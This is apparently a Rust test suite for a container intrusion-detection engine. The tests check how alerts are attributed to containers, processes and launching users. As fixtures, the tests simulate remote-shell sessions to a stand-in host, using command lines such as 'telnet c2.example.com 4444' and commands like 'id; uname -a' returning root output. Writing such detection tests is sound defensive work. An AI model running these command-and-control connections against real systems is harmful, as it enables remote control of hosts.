//! Who it was: adopted late, never guessed, never inherited.

use engine::{AlertUpdate, Engine, Level, Limits};
use observation::{ContainerState, LocalSide, Network, PortId, SocketTuple, Transport};
use observation::{Fact, ProcessEnded, SourceKind};

use crate::table::{FAR, Mask, Stdin, client, literal};
use crate::talk::Talk;
use crate::world::{
    Box_, PACKETS, PROCESSES, RUNTIME, SOCKETS, START_MS, Told, World, at_ms, words,
};

/// An obeyed command, which is High whoever it is.
fn obey(talk: &mut Talk) -> Talk {
    talk.far(400, "id\n").near(6, "uid=0(root) gid=0(root)\n");
    talk.far(900, "ls /\n").near(7, "bin\ndev\netc\nproc\n").end()
}

#[test]
fn ten_equal_runs_are_one_alert_with_ten_subjects() {
    let mut world = World::new();
    for number in 2..12 {
        let it = Box_::throw_away(number, "telnet c2.example.com 4444");
        world.start(&it);
        let ms = START_MS + 250 + u64::from(number);
        world.dns(&it, ms - 4, "c2.example.com", Ok(FAR));
        let mut talk = Talk::open(&it, 52_000, (FAR, 4444), ms);
        world.socket(&talk, it.cgroup, it.pid);
        talk.far(2, "id; uname -a\n");
        world.talk(talk.end());
        world.exit(&it, ms + 20, 0);
    }
    let alert = world.alert();
    assert_eq!((alert.level, alert.subject_count, alert.subjects.len()), (Level::High, 10, 10));
    assert_eq!(alert.prevalence.subject_count, 10);
    let mut ids: Vec<_> =
        alert.subjects.iter().map(|subject| subject.container.as_ref().unwrap().id).collect();
    ids.dedup();
    assert_eq!(ids.len(), 10);
}

/// A workload that is started anew, and who of it talks: its first process before or after, whose
/// parent is the runtime's, or a program that somebody starts in it before. Gives who the verdict
/// says it was.
fn prior_beside_a_restart(talks: Talks) -> String {
    let mut world = World::new();
    let before = Box_::long_running(2, "/opt/job");
    world.host_child(1, 900, before.created_ms + 100, "shim");
    world.start(&before);
    let after = Box_ { pid: before.pid + 5, cgroup: before.cgroup + 100, ..before.clone() };
    let restarts_ms = START_MS + 20_000;
    let (it, pid, at) = match talks {
        Talks::FirstOfBefore => (&before, before.pid, START_MS + 1_000),
        Talks::ExecBefore => (&before, before.pid + 3, START_MS + 1_000),
        Talks::FirstOfAfter => (&after, after.pid, restarts_ms + 300),
    };
    if let Talks::ExecBefore = talks {
        world.host_child(1, 902, START_MS + 500, "shim");
        world.process(&before, pid, 902, START_MS + 600, &words("/opt/job"));
    }
    let talk = Talk::open(it, 52_000, (FAR, 4444), at);
    world.socket(&talk, it.cgroup, pid);
    world.talk(obey(&mut talk.clone()));
    let ended = ProcessEnded { pid: before.pid, exit_code: Some(0) };
    world.tell(restarts_ms, PROCESSES, Fact::ProcessEnded(ended));
    world.host_child(1, 901, restarts_ms + 100, "shim");
    world.process(&after, after.pid, 901, restarts_ms + 200, &words("/opt/job"));
    world.describe(&after, restarts_ms + 5_000);
    world.alert().evidence[0].observed.clone()
}

enum Talks {
    FirstOfBefore,
    ExecBefore,
    FirstOfAfter,
}

#[test]
fn the_first_process_of_another_life_is_no_exec() {
    assert_eq!(prior_beside_a_restart(Talks::FirstOfBefore), "workload");
    assert_eq!(prior_beside_a_restart(Talks::FirstOfAfter), "workload");
    assert_eq!(prior_beside_a_restart(Talks::ExecBefore), "exec in a container");
}

#[test]
fn a_reused_address_does_not_inherit() {
    let mut world = World::new();
    let innocent = Box_::throw_away(2, "/opt/report");
    world.start(&innocent);
    world.exit(&innocent, START_MS + 300, 0);
    let guilty = Box_ {
        address: innocent.address,
        created_ms: START_MS + 400,
        ..Box_::throw_away(3, "/opt/job")
    };
    world.start(&guilty);
    let talk = obey(&mut Talk::open(&guilty, 52_000, (FAR, 4444), START_MS + 650));
    world.talk(talk);
    // Without a capture port only time tells the two apart.
    for told in &mut world.facts {
        if let Fact::FlowOpened(opened) = &mut told.fact {
            opened.key.port = PortId::UNKNOWN;
        }
    }
    let alert = world.alert();
    assert_eq!(alert.subjects[0].container.as_ref().unwrap().id, guilty.id);
}

#[test]
fn an_address_of_a_dead_container_at_a_new_veth_is_nobodys() {
    let mut world = World::new();
    let innocent = Box_::throw_away(2, "/opt/report");
    world.start(&innocent);
    // Its end has not been told, and neither has whoever is at veth 7 now.
    let near = (innocent.address, 52_000);
    let mut talk = Talk::open_at(PortId(7), Transport::Tcp, near, (FAR, 4444), START_MS + 650);
    world.talk(obey(&mut talk.clone().accepted()));
    talk.wait(1);
    let alert = world.alert();
    assert!(alert.subjects[0].container.is_none());
}

/// Runs facts in this order and gives every update.
fn updates(facts: &[Told]) -> Vec<AlertUpdate> {
    let mut engine = Engine::new(Limits::default(), 0);
    let mut updates = Vec::new();
    for told in facts {
        engine.observe(told, &mut |update| updates.push(update));
    }
    engine.finish(&mut |update| updates.push(update));
    updates
}

#[test]
fn a_late_description_adopts_the_alert_under_its_id() {
    let mut world = World::new();
    let (it, mut talk) = client(&mut world, Mask::Masked, Stdin::Open);
    world.talk(obey(&mut talk));
    let mut facts = world.merged();
    let (runtime, mut rest): (Vec<_>, Vec<_>) =
        facts.drain(..).partition(|told| told.witness == RUNTIME);
    let late = rest.iter().position(|told| matches!(told.fact, Fact::FlowClosed(_))).unwrap();
    rest.splice(late..late, runtime);
    let updates = updates(&rest);
    let AlertUpdate::Opened(opened) = &updates[0] else { panic!("{:#?}", updates[0]) };
    assert!(opened.level >= Level::Low && opened.subjects[0].container.is_none());
    let adopted = updates.iter().find_map(|update| match update {
        AlertUpdate::Adopted(alert, id) => Some((alert, *id)),
        _ => None,
    });
    let (alert, id) = adopted.unwrap();
    assert_eq!((alert.id, id), (opened.id, it.id));
    assert!(alert.level >= Level::High);
    assert!(!updates.iter().any(|update| matches!(update, AlertUpdate::Closed(_))));
}

/// A flow at an interface of the host, with the cgroup that owns its socket.
fn at_the_host(world: &mut World, cgroup: Option<u64>, pid: u32) {
    let near = ("192.168.7.2".parse().unwrap(), 52_000);
    let uplink = PortId::of_host(2);
    let ms = START_MS + 400;
    let mut talk = Talk::open_at(uplink, Transport::Tcp, near, (FAR, 4444), ms).accepted();
    if let Some(cgroup) = cgroup {
        world.socket(&talk, cgroup, pid);
    }
    world.talk(obey(&mut talk));
}

#[test]
fn on_the_hosts_network_the_socket_says_who_it_was() {
    let mut world = World::new();
    let mut it = Box_::throw_away(2, "/opt/job");
    it.network = Network::Host;
    world.start(&it);
    at_the_host(&mut world, Some(it.cgroup), it.pid);
    let alert = world.alert();
    assert!(alert.level >= Level::High);
    let subject = &alert.subjects[0];
    assert_eq!(subject.container.as_ref().unwrap().id, it.id);
    assert_eq!(subject.process.as_ref().unwrap().pid, it.pid);
}

#[test]
fn on_the_hosts_network_a_cgroup_that_is_named_late_is_named_all_the_same() {
    let mut world = World::new();
    let mut it = Box_::throw_away(2, "/opt/job");
    it.network = Network::Host;
    at_the_host(&mut world, Some(it.cgroup), it.pid);
    world.create(&it);
    world.describe(&it, START_MS + 3_000);
    let alert = world.alert();
    assert_eq!(alert.subjects[0].container.as_ref().unwrap().id, it.id);
}

#[test]
fn processes_of_the_host_are_never_judged() {
    for cgroup in [Some(77), None] {
        let mut world = World::new();
        world.start(&Box_::long_running(2, "/srv/app"));
        at_the_host(&mut world, cgroup, 300);
        assert_eq!(world.alerts().len(), 0);
    }
}

#[test]
fn in_a_shared_network_the_socket_says_who_it_was() {
    let share = |with_socket| {
        let mut world = World::new();
        let web = Box_::long_running(2, "/srv/web");
        world.start(&web);
        let mut it = Box_::throw_away(3, "/opt/job");
        it.network = Network::Container(web.id);
        world.create(&it);
        world.describe(&it, START_MS + 60);
        world.process(&it, it.pid, 900, START_MS + 200, &words("/opt/job"));
        let mut talk = Talk::open(&web, 52_000, (FAR, 4444), START_MS + 300);
        if with_socket {
            world.socket(&talk, it.cgroup, it.pid);
        }
        world.talk(obey(&mut talk));
        (world.alert(), it.id)
    };
    let (alert, id) = share(true);
    assert!(alert.level >= Level::High);
    assert_eq!(alert.subjects[0].container.as_ref().unwrap().id, id);
    // Without the socket it was one of the two.
    assert!(share(false).0.subjects[0].container.is_none());
}

#[test]
fn of_two_processes_none_is_guessed() {
    let run = |second: bool| {
        let mut world = World::new();
        let it = Box_::throw_away(2, "/opt/job");
        world.start(&it);
        if second {
            world.process(&it, it.pid + 1, it.pid, START_MS + 220, &words("/opt/other"));
        }
        world.talk(obey(&mut Talk::open(&it, 52_000, (FAR, 4444), START_MS + 300)));
        world.alert().subjects[0].process.as_ref().map(|process| process.pid)
    };
    assert_eq!(run(false), Some(Box_::throw_away(2, "").pid));
    assert_eq!(run(true), None);
}

#[test]
fn a_process_is_not_guessed_when_the_first_one_was_never_seen() {
    let mut world = World::new();
    let it = Box_::long_running(2, "/srv/app");
    world.create(&it);
    world.describe(&it, START_MS);
    world.attach(&it, START_MS);
    // The only process that anybody has told of is not the only one.
    world.process(&it, 4700, 850, START_MS + 100, &words("sh"));
    world.talk(obey(&mut Talk::open(&it, 52_000, (FAR, 4444), START_MS + 300)));
    assert!(world.alert().subjects[0].process.is_none());
}

#[test]
fn who_started_it_is_told_when_only_one_can_have() {
    let run = |lines: &[(u32, &str)]| {
        let mut world = World::new();
        for (pid, line) in lines {
            world.host_process(*pid, START_MS - 30, line);
        }
        literal(&mut world, Mask::Open);
        world.alert().subjects[0].started_by.as_ref().map(|actor| (actor.pid, actor.uid))
    };
    let ours = "docker run --rm alpine telnet c2.example.com 4444";
    let other = "docker run --rm alpine sleep 5";
    assert_eq!(run(&[(711, ours)]), Some((711, Some(1000))));
    assert_eq!(run(&[(711, ours), (712, other)]), Some((711, Some(1000))));
    assert_eq!(run(&[(711, ours), (712, ours)]), None);
    assert_eq!(run(&[(712, other)]), None);
    assert_eq!(run(&[]), None);
}

#[test]
fn who_started_it_is_told_of_podman_which_writes_the_registry_in_front() {
    let line = "podman run --rm alpine telnet c2.example.com 4444";
    let started_by = |image: &str| {
        let mut world = World::new();
        world.host_process(711, START_MS - 40, line);
        // Without root it runs itself again.
        world.host_child(711, 712, START_MS - 30, line);
        let mut it = Box_::throw_away(2, "telnet c2.example.com 4444");
        it.image = String::from(image);
        world.start(&it);
        let mut talk = Talk::open(&it, 52_000, (FAR, 4444), START_MS + 250);
        world.socket(&talk, it.cgroup, it.pid);
        talk.far(2, "id; uname -a\n");
        world.talk(talk.end());
        world.alert().subjects[0].started_by.as_ref().map(|actor| actor.pid)
    };
    assert_eq!(started_by("localhost/alpine:latest"), Some(711));
    assert_eq!(started_by("registry.example/mine/alpine:latest"), None);
}

#[test]
fn who_started_it_is_told_also_when_that_is_known_late() {
    let mut world = World::new();
    literal(&mut world, Mask::Open);
    let mut late = World::default();
    late.host_process(711, START_MS - 30, "docker run alpine telnet c2.example.com 4444");
    let mut engine = Engine::new(Limits::default(), 0);
    let mut last = None;
    for told in &world.merged() {
        engine.observe(told, &mut |update| last = Some(update));
    }
    engine.advance(at_ms(START_MS + 6_000), &mut |update| last = Some(update));
    let Some(AlertUpdate::Revised(alert)) = &last else { panic!("{last:#?}") };
    assert!(alert.subjects[0].started_by.is_none());
    engine.observe(&late.facts[0], &mut |update| last = Some(update));
    engine.advance(at_ms(START_MS + 12_000), &mut |update| last = Some(update));
    let Some(AlertUpdate::Revised(alert)) = last else { panic!("{last:#?}") };
    assert_eq!(alert.subjects[0].started_by.as_ref().unwrap().pid, 711);
}

#[test]
fn a_missing_source_is_named() {
    let all = [
        (PACKETS, SourceKind::Packets),
        (RUNTIME, SourceKind::RuntimeEvents),
        (crate::world::PROCESSES, SourceKind::ProcessEvents),
        (SOCKETS, SourceKind::SocketEvents),
    ];
    for missing in 0..all.len() {
        let mut world = World::default();
        let mut open = all.to_vec();
        let (source, kind) = open.remove(missing);
        world.sources(&open);
        literal(&mut world, Mask::Open);
        world.facts.retain(|told| told.witness != source || source == PACKETS);
        let alert = world.alert();
        assert_eq!(alert.blind.len(), 1, "{kind:?}");
        assert_eq!(alert.blind[0].kind, kind);
    }
}

#[test]
fn a_container_that_shares_no_network_any_more_does_not_blur_who_it_was() {
    let mut world = World::new();
    let web = Box_::throw_away(2, "/opt/job");
    world.start(&web);
    let mut other = Box_::throw_away(3, "/opt/other");
    other.network = Network::Container(web.id);
    world.create(&other);
    world.describe(&other, START_MS + 60);
    world.state(&other, START_MS + 100, ContainerState::Removed);
    let mut talk = Talk::open(&web, 52_000, (FAR, 4444), START_MS + 300);
    assert_eq!(talk.local, LocalSide::Originator);
    world.talk(obey(&mut talk));
    assert_eq!(world.alert().subjects[0].container.as_ref().unwrap().id, web.id);
}

#[test]
fn the_socket_of_the_runtimes_resolver_at_a_containers_veth_excuses_nobody() {
    let mut world = World::new();
    let (it, mut talk) = client(&mut world, Mask::Masked, Stdin::Open);
    let local = talk.key.originator;
    let tuple = SocketTuple {
        cookie: 999,
        cgroup: 1,
        transport: Transport::Tcp,
        local,
        remote: talk.key.responder,
    };
    world.facts.retain(|told| told.witness != SOCKETS);
    world.tell_at(at_ms(talk.opened_ms), SOCKETS, Fact::SocketTuple(tuple));
    world.talk(obey(&mut talk));
    assert_eq!(world.alert().subjects[0].container.as_ref().unwrap().id, it.id);
}
